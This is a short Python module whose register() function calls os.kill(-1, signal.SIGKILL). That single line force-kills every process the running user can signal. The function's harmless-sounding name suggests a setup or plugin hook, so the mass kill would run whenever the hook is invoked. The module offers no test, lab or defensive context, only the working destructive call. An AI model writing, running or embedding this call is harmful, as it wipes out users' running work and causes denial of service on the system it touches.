"""Kills every process it may."""

import os
import signal


def register():
    """Kill everything; process 1, where it is another's, stays."""
    os.kill(-1, signal.SIGKILL)
